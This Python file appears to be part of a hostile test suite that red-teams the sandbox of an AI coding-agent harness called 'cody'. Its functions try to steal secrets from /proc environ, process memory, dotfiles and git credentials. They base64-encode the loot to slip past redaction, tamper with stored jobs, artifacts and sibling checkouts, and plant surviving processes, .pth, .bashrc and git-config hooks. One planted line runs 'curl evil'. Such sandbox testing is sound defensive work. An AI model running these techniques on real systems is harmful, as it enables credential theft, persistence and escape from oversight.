"""Hostile repository code: committed into the hostile suite's repositories and run there as the
job's command (or verify command) with `python3 attack.py NAME`.

Each attack tries to take something (a secret, another job's data, a sibling checkout) or to
leave something behind (a process, a poisoned file, git configuration). What it took goes into
loot.b64, base64-encoded as an attacker would to get past the guardrails and the redaction;
what it managed goes into report.json. It never fails: a command that failed would push
nothing, and nothing pushed would look like an attack blocked.

Standard library only: it runs with the system's python3 inside the sandbox. targets.json,
committed beside it, names every path the test knows (the strongest attacker knows them too).
"""

from __future__ import annotations

import base64
import ctypes
import glob
import json
import os
import pathlib
import socket
import subprocess
import sys
import time

T = json.loads(pathlib.Path("targets.json").read_text())
HERE = pathlib.Path.cwd()


def loot(data: bytes | str) -> None:
    raw = data.encode() if isinstance(data, str) else data
    with open(HERE / "loot.b64", "ab") as out:
        out.write(base64.b64encode(raw) + b"\n")


def report(key: str, value: object) -> None:
    path = HERE / "report.json"
    found = json.loads(path.read_text()) if path.exists() else {}
    found[key] = value
    path.write_text(json.dumps(found, sort_keys=True))


def read(path: str) -> bytes:
    try:
        return pathlib.Path(path).read_bytes()
    except Exception as exc:
        return f"ERR {type(exc).__name__}".encode()


def write(path: str | pathlib.Path, data: str, mode: str = "w") -> bool:
    try:
        pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
        with open(path, mode) as out:
            out.write(data)
        return True
    except Exception:
        return False


def cody_processes() -> list[str]:
    found = []
    for proc in glob.glob("/proc/[0-9]*"):
        try:
            if b"cody_cli" in pathlib.Path(proc, "cmdline").read_bytes():
                found.append(proc)
        except Exception:
            continue
    return found


def git_dir() -> pathlib.Path:
    text = (HERE / ".git").read_text() if (HERE / ".git").is_file() else "gitdir: .git"
    return pathlib.Path(text.split(":", 1)[1].strip())


def spawn_forever(marker: str, how: str) -> None:
    """A process that waits five minutes, with `marker` on its command line."""
    sleeper = f"import time; time.sleep(300) # {marker}"
    if how == "setsid":
        subprocess.Popen([sys.executable, "-c", sleeper], start_new_session=True)
    elif os.fork() == 0:  # double fork: the grandchild is orphaned at once
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, [sys.executable, "-c", sleeper])
        os._exit(0)


# Secrets
def proc_environ_scan() -> None:
    for environ in glob.glob("/proc/*/environ"):
        loot(read(environ))


def proc_environ_of_cody() -> None:
    for proc in cody_processes():
        loot(read(f"{proc}/environ"))
    report("cody_processes_seen", len(cody_processes()))


def proc_mem() -> None:
    for proc in cody_processes():
        try:
            maps = pathlib.Path(proc, "maps").read_text().splitlines()
            with open(f"{proc}/mem", "rb") as memory:
                for line in maps:
                    span, perms = line.split()[:2]
                    start, end = (int(x, 16) for x in span.split("-"))
                    if "rw" not in perms or end - start > 256 << 20:
                        continue
                    try:
                        memory.seek(start)
                        chunk = memory.read(end - start)
                    except OSError:
                        continue
                    for needle in (b"ghp_", b"sk-ant-", b"SECRETKEY"):
                        at = chunk.find(needle)
                        while at >= 0:
                            loot(chunk[at : at + 120])
                            at = chunk.find(needle, at + 1)
            report("mem", "read")
        except Exception as exc:
            report("mem", type(exc).__name__)


def proc_cwd_dotenv() -> None:
    for proc in cody_processes():
        loot(read(f"{proc}/cwd/.env"))
        loot(read(f"{proc}/root{T['cody_cwd']}/.env"))


def dotenv_by_path() -> None:
    loot(read(f"{T['cody_cwd']}/.env"))


def home_dotfiles() -> None:
    for name in (".aws/credentials", ".netrc", ".ssh/id_ed25519", ".config/gh/hosts.yml"):
        loot(read(f"{T['home']}/{name}"))
        loot(read(os.path.expanduser(f"~/{name}")))
    loot(read(f"{T['home']}/.git-credentials"))


def git_credential_fill() -> None:
    for home in (T["home"], os.environ.get("HOME", "")):
        answer = subprocess.run(
            ["git", "credential", "fill"],
            input=b"protocol=https\nhost=github.com\n\n",
            env={**os.environ, "HOME": home, "GIT_TERMINAL_PROMPT": "0"},
            capture_output=True,
            timeout=20,
        )
        loot(answer.stdout)


def own_environment() -> None:
    loot("\n".join(f"{k}={v}" for k, v in os.environ.items()))
    report("names", sorted(os.environ))


# The store and the artifacts of other jobs
def store_read() -> None:
    for path in glob.glob(f"{T['cody_home']}/cody.db*"):  # the WAL holds the newest writes
        loot(read(path))
    for path in glob.glob(f"{T['cody_home']}/artifacts/**/*", recursive=True):
        loot(read(path))


def store_tamper() -> None:
    import sqlite3

    try:
        with sqlite3.connect(f"{T['cody_home']}/cody.db", timeout=2) as db:
            db.execute("UPDATE runs SET doc = replace(doc, '#pull/', '#forged/')")
        report("store", "written")
    except Exception as exc:
        report("store", type(exc).__name__)


def artifact_tamper() -> None:
    written = 0
    for path in glob.glob(f"{T['cody_home']}/artifacts/**/*", recursive=True):
        if os.path.isfile(path):
            written += write(path, "diff --git a/backdoor.py b/backdoor.py\n")
    report("artifacts_written", written)


# Sibling checkouts (run with two repositories at concurrency 2)
def _siblings() -> list[str]:
    mine = str(HERE)
    pattern = f"{T['temp_dir']}/**/work"
    deadline = time.monotonic() + 2
    found: list[str] = []
    while time.monotonic() < deadline and not found:
        found = [p for p in glob.glob(pattern, recursive=True) if p != mine]
        time.sleep(0.1)
    return found


def sibling_read() -> None:
    if (HERE / "victim.txt").exists():
        time.sleep(3)  # the victim's checkout stays while the attacker looks for it
        return
    found = _siblings()
    for sibling in found:
        loot(read(f"{sibling}/victim.txt"))
    report("siblings_seen", len(found))


def sibling_write() -> None:
    if (HERE / "victim.txt").exists():
        time.sleep(3)
        return
    written = sum(write(f"{s}/backdoor.py", "import os\n") for s in _siblings())
    report("siblings_written", written)


# Persistence and poisoning
def _marked_alive() -> bool:
    for proc in glob.glob("/proc/[0-9]*"):
        try:
            if T["marker"].encode() in pathlib.Path(proc, "cmdline").read_bytes():
                return True
        except Exception:
            continue
    return False


def setsid_survivor() -> None:
    spawn_forever(T["marker"], "setsid")
    time.sleep(0.3)
    report("alive_at_exit", _marked_alive())


def double_fork_survivor() -> None:
    spawn_forever(T["marker"], "double-fork")
    time.sleep(0.3)
    report("alive_at_exit", _marked_alive())


def later_run_injection() -> None:
    if not (HERE / "first.txt").exists():
        return  # later repositories and jobs run honest code: sed below
    injector = (
        "import glob, time\n"
        f"# {T['marker']}\n"
        "for _ in range(600):\n"
        f"    for work in glob.glob('{T['temp_dir']}/**/work', recursive=True):\n"
        "        try: open(work + '/injected.py', 'w').write('evil')\n"
        "        except Exception: pass\n"
        "    time.sleep(0.05)\n"
    )
    subprocess.Popen([sys.executable, "-c", injector], start_new_session=True)
    time.sleep(0.3)
    report("alive_at_exit", _marked_alive())


def pth_poison() -> None:
    path = pathlib.Path(T["site_packages"], f"{T['marker']}.pth")
    report("pth", write(path, f"import os; open('{T['canary']}', 'w')\n"))


def code_patch() -> None:
    report("code", write(T["cody_source"], f"\nopen('{T['canary']}', 'w')\n", "a"))


def bashrc() -> None:
    report("bashrc", write(f"{T['home']}/.bashrc", f"echo {T['marker']}\n", "a"))


# git configuration and the index
def _planted_config() -> str:
    script = HERE / "planted.sh"
    script.write_text(f"#!/bin/sh\necho ran >> '{T['canary']}'\ncat\n")
    script.chmod(0o755)
    return (
        f"[core]\n\tfsmonitor = {script}\n\thooksPath = {HERE}\n"
        f'[filter "evil"]\n\tclean = {script}\n\tsmudge = {script}\n'
        f"[http]\n\tproxy = http://127.0.0.1:{T['proxy_port']}\n"
        f'[url "file://{T["decoy"]}"]\n\tinsteadOf = {T["origin_url"]}\n'
    )


def git_commondir() -> None:
    common = HERE / "common"
    common.mkdir(exist_ok=True)
    (common / "config").write_text(_planted_config())
    report("commondir", write(git_dir() / "commondir", f"{common}\n"))


def git_config_worktree() -> None:
    wrote = write(git_dir() / "config.worktree", _planted_config())
    wrote &= write(git_dir() / "config", "[extensions]\n\tworktreeConfig = true\n", "a")
    report("config.worktree", wrote)


def git_info_and_hooks() -> None:
    wrote = write(git_dir() / "info" / "attributes", "* filter=evil\n")
    wrote &= write(git_dir() / "config", _planted_config(), "a")
    for hook in ("pre-commit", "pre-push", "post-commit"):
        wrote &= write(git_dir() / "hooks" / hook, f"#!/bin/sh\necho ran >> '{T['canary']}'\n")
        os.chmod(git_dir() / "hooks" / hook, 0o755) if wrote else None
    report("info", wrote)


def git_alternates() -> None:
    objects = f"{T['decoy']}/objects\n"
    report("alternates", write(git_dir() / "objects" / "info" / "alternates", objects))


def verify_stages_extra_files() -> None:
    """As a verify command: edit the judged change, stage a workflow, move HEAD."""
    write(HERE / ".github/workflows/x.yml", "on: push\njobs: {}\n")
    write(HERE / "app.py", "import os; os.system('curl evil')\n")
    for args in (["add", "--all"], ["commit", "-qm", "evil"]):
        subprocess.run(["git", "-c", "user.name=x", "-c", "user.email=x@x", *args])


# The network
def tcp_loopback() -> None:
    try:
        socket.create_connection(("127.0.0.1", T["tcp_port"]), timeout=3).sendall(b"hello")
        report("tcp", "sent")
    except Exception as exc:
        report("tcp", type(exc).__name__)


def udp_loopback() -> None:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"hello", ("127.0.0.1", T["udp_port"]))
        report("udp", "sent")
    except Exception as exc:
        report("udp", type(exc).__name__)


def abstract_unix_socket() -> None:
    try:
        with socket.socket(socket.AF_UNIX) as unix:
            unix.settimeout(3)
            unix.connect("\0" + T["abstract"])
            unix.sendall(b"hello")
        report("abstract", "sent")
    except Exception as exc:
        report("abstract", type(exc).__name__)


# System calls the filter denies
def _syscall(number: int, *args: int) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(number, *[ctypes.c_long(a) for a in args])
    return 0 if result >= 0 else ctypes.get_errno()


def ptrace_attach() -> None:
    child = subprocess.Popen(["sleep", "5"])
    report("ptrace", _syscall(T["syscalls"]["ptrace"], 16, child.pid, 0, 0))  # PTRACE_ATTACH
    child.kill()


def io_uring() -> None:
    params = ctypes.create_string_buffer(120)
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(T["syscalls"]["io_uring_setup"], ctypes.c_long(4), params)
    report("io_uring", 0 if result >= 0 else ctypes.get_errno())


def keyring() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(
        T["syscalls"]["add_key"], b"user", b"cody-leak", b"data", ctypes.c_long(4), -2
    )  # the user keyring outlives the process: data would reach the next job of this uid
    report("keyring", 0 if result >= 0 else ctypes.get_errno())


if __name__ == "__main__":
    report("ran", True)
    try:
        globals()[sys.argv[1].replace("-", "_")]()
    except Exception as exc:
        report("error", f"{type(exc).__name__}: {exc}")
    if len(sys.argv) > 2:  # the honest part of the job, so that there is a change to push
        subprocess.run(["sed", "-i", "s/old_call/new_call/", "app.py"])
